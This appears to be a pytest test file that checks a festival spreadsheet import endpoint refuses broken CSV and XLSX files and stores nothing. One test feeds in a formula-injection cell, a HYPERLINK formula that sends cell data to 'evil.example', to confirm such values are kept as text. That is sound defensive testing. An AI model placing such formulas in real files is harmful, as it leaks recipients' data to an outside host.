"""Broken spreadsheets sent to POST /api/v1/festivals/{slug}/import: a clear 4xx with a code, and
nothing stored (every table counted before and after)."""
import io
from functools import partial
import zipfile

import pytest
import sqlalchemy as sa

from app.database import db
from events.models import ProgrammeImport, ProgrammeSession
from events.importing.programme import import_status, run_import
from tests import spreadsheets

HEADER = ["title_th", "title_en", "kind", "day", "start", "end", "venue", "capacity"]
ROW = ["เสวนา", "Forum", "forum", "2027-08-22", "15:00", "16:00", "Stage", ""]

csv_bytes = partial(spreadsheets.csv_bytes, header=HEADER)
xlsx_bytes = partial(spreadsheets.xlsx_bytes, header=HEADER)


def upload(client, world, content, filename="programme.csv", dry_run=False, content_type="multipart/form-data"):
    return client.post(
        f"/api/v1/festivals/{world.slug}/import",
        data={"file": (io.BytesIO(content), filename), "dry_run": "true" if dry_run else "false"},
        headers=world.admin,
        content_type=content_type,
    )


def refused(answer, status, code, field="file"):
    body = answer.get_json()
    assert answer.status_code == status, answer.get_data(as_text=True)
    assert body["code"] == code, body
    if field is not None:
        assert body["field"] == field, body
    return body


def zip_of(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "filename", "code"),
    [
        (b"", "programme.csv", "empty_file"),
        (b"", "programme.xlsx", "empty_file"),
        (zip_of({"hello.txt": "not a workbook"}), "programme.xlsx", "bad_file"),
        (zip_of({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<<<"}), "programme.xlsx", "bad_file"),
        (xlsx_bytes([ROW])[:700], "programme.xlsx", "bad_file"),
        (xlsx_bytes([ROW])[: len(xlsx_bytes([ROW])) // 2], "programme.xlsx", "bad_file"),
        (bytes(range(256)) * 64, "programme.xlsx", "bad_file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "programme.xls", "bad_file"),
        (b"PK\x03\x04" + b"\x00" * 100, "programme.csv", "bad_file"),
        (bytes(range(256)) * 64, "programme.csv", "bad_file"),
        ("title_th,kind\nเสวนา,forum\n".encode("utf-16"), "programme.csv", "bad_file"),
        (b"\x00\x00\x00\x00\n\x00\x00", "programme.csv", "missing_columns"),
        (b"just one line of words", "programme.csv", "missing_columns"),
        (b"# only notes\n# and more notes\n", "programme.csv", "missing_columns"),
        (csv_bytes([], header=["title_th", "title_th", "kind", "day", "start", "end"]), "programme.csv", "duplicate_column"),
        ('title_th,kind,day,start,end\n"' .encode() + b"x" * 200_000 + b'",forum,2027-08-22,10:00,11:00\n',
         "programme.csv", "bad_file"),
    ],
    ids=["empty-csv", "empty-xlsx", "zip-not-xlsx", "zip-broken-xml", "truncated-xlsx-head", "truncated-xlsx-half",
         "garbage-named-xlsx", "old-xls", "zip-named-csv", "garbage-named-csv", "utf16-csv", "nul-csv", "no-header",
         "only-comments", "duplicate-column", "huge-cell"],
)
def test_broken_files_are_422_with_a_code_and_store_nothing(client, world, row_counts, conforms, content, filename, code):
    before = row_counts()
    for dry_run in (True, False):
        answer = upload(client, world, content, filename, dry_run=dry_run)
        refused(answer, 422, code)
        conforms("POST", "/api/v1/festivals/{slug}/import", answer)
    assert row_counts() == before


def test_a_csv_in_a_wrong_encoding_is_read_or_refused_never_mangled_into_the_programme(app, client, world, row_counts):
    before = row_counts()
    # Latin-1 bytes that are neither UTF-8 nor a Thai code page word: read as cp874 they are not Thai either.
    latin = csv_bytes([["Caf\xe9", "Caf\xe9", "forum", "2027-08-22", "15:00", "16:00", "", ""]], encoding="latin-1")
    answer = upload(client, world, latin, dry_run=True)
    assert answer.status_code in (200, 422), answer.get_json()
    assert row_counts() == before
    # A Thai CSV saved by Excel in Windows-874 is read correctly.
    thai = csv_bytes([["เสวนา", "", "forum", "2027-08-22", "15:00", "16:00", "", ""]], encoding="cp874")
    answer = upload(client, world, thai)
    assert answer.status_code == 201, answer.get_json()
    listed = client.get(f"/api/v1/festivals/{world.slug}/sessions").get_json()
    assert "เสวนา" in [session["title_th"] for session in listed]


@pytest.mark.parametrize(
    ("row", "field", "code"),
    [
        (["x", "", "forum", "01/01/0001", "00:00", "01:00", "", ""], "day", "out_of_range"),
        (["x", "", "forum", "31/12/9999", "22:00", "23:00", "", ""], "day", "out_of_range"),
        (["x", "", "forum", "2027-13-45", "10:00", "11:00", "", ""], "day", "invalid"),
        (["x", "", "forum", "2027-08-22", "25:99", "11:00", "", ""], "start", "invalid"),
        (["x", "", "forum", "2027-08-22", "10:00", "11:00", "", "99999999999999999999"], "capacity", "invalid"),
        (["x", "", "forum", "2027-08-22", "10:00", "11:00", "", "-5"], "capacity", "out_of_range"),
        (["x\x00y", "", "forum", "2027-08-22", "10:00", "11:00", "", ""], "title_th", "invalid"),
        (["x", "", "forum", "2027-08-22", "10:00", "11:00", "Stage\x00", ""], "venue", "invalid"),
        (["x" * 301, "", "forum", "2027-08-22", "10:00", "11:00", "", ""], "title_th", "too_long"),
    ],
    ids=["year-1", "year-9999", "no-such-date", "no-such-time", "huge-capacity", "negative-capacity", "nul-title",
         "nul-venue", "long-title"],
)
def test_bad_cells_are_listed_by_row_and_nothing_is_stored(client, world, row_counts, conforms, row, field, code):
    before = row_counts()
    dry = upload(client, world, csv_bytes([ROW, row]), dry_run=True)
    assert dry.status_code == 200, dry.get_json()
    assert dry.get_json()["ok"] is False
    assert [(e["row"], e["field"], e["code"]) for e in dry.get_json()["errors"]] == [(3, field, code)]
    real = upload(client, world, csv_bytes([ROW, row]))
    body = refused(real, 422, "invalid_rows")
    conforms("POST", "/api/v1/festivals/{slug}/import", real)  # `errors` is a list here, as documented
    assert [(e["row"], e["field"], e["code"]) for e in body["errors"]] == [(3, field, code)]
    assert row_counts() == before


def test_the_same_bad_cells_in_an_xlsx(client, world, row_counts):
    before = row_counts()
    rows = [ROW, ["x", "", "forum", "01/01/0001", "00:00", "01:00", "", ""], ["y", "", "party", "2027-08-22", "9", "", "", ""]]
    body = refused(upload(client, world, xlsx_bytes(rows), "programme.xlsx"), 422, "invalid_rows")
    assert {(e["row"], e["field"]) for e in body["errors"]} == {(3, "day"), (4, "kind"), (4, "start"), (4, "end")}
    assert row_counts() == before


def test_too_many_rows_is_422_and_a_large_file_runs_as_a_job_that_stores_nothing_when_bad(app, client, world, row_counts):
    before = row_counts()
    refused(upload(client, world, csv_bytes([ROW] * 5001)), 422, "too_many_rows")
    assert row_counts() == before
    # 300 rows run as a job; rows 3 to 301 clash with row 2 at the same stage and time, so none is added.
    answer = upload(client, world, csv_bytes([ROW] * 300))
    assert answer.status_code == 202, answer.get_json()
    job_id = answer.get_json()["id"]
    with app.app_context():
        run_import(job_id)
        db.session.remove()
    with app.app_context():
        job = db.session.get(ProgrammeImport, job_id)
        status = import_status(job)
        assert status["status"] == "failed" and status["ok"] is False
        assert {e["code"] for e in status["errors"]} == {"clash"} and len(status["errors"]) == 299
        assert db.session.scalar(sa.select(sa.func.count()).select_from(ProgrammeSession)) == before["sessions"]


def test_formulas_in_cells_are_stored_as_text(client, world):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [[formula, "+SUM(1,2)", "forum", "2027-08-22", "15:00", "16:00", "", ""],
            ["@cmd", "-2+3", "talk", "2027-08-22", "17:00", "18:00", "", ""]]
    for content, filename in ((csv_bytes(rows), "programme.csv"), (xlsx_bytes(rows), "programme.xlsx")):
        answer = upload(client, world, content, filename, dry_run=True)
        assert answer.status_code == 200 and answer.get_json()["ok"] is True, answer.get_json()
    assert upload(client, world, csv_bytes(rows)).status_code == 201
    titles = {(s["title_th"], s["title_en"]) for s in client.get(f"/api/v1/festivals/{world.slug}/sessions").get_json()}
    assert (formula, "+SUM(1,2)") in titles and ("@cmd", "-2+3") in titles


def test_a_file_sent_as_json_or_without_a_file_is_refused(client, world, row_counts):
    before = row_counts()
    as_json = client.post(f"/api/v1/festivals/{world.slug}/import", headers=world.admin,
                          json={"file": "title_th,kind\n", "dry_run": True})
    refused(as_json, 415, "unsupported_media_type", field=None)
    as_text = client.post(f"/api/v1/festivals/{world.slug}/import", headers=world.admin,
                          data=csv_bytes([ROW]), content_type="text/csv")
    refused(as_text, 415, "unsupported_media_type", field=None)
    no_file = client.post(f"/api/v1/festivals/{world.slug}/import", headers=world.admin,
                          data={"dry_run": "true"}, content_type="multipart/form-data")
    refused(no_file, 422, "validation_error", "file")
    text_field = client.post(f"/api/v1/festivals/{world.slug}/import", headers=world.admin,
                             data={"file": "title_th,kind", "dry_run": "true"}, content_type="multipart/form-data")
    assert text_field.status_code == 422 and text_field.get_json()["field"] == "file"
    bad_flag = upload(client, world, csv_bytes([ROW]), dry_run=True)
    assert bad_flag.status_code == 200
    nul_name = upload(client, world, csv_bytes([ROW]), filename="pro\x00gramme.csv")
    refused(nul_name, 422, "invalid", "file")
    assert row_counts() == before
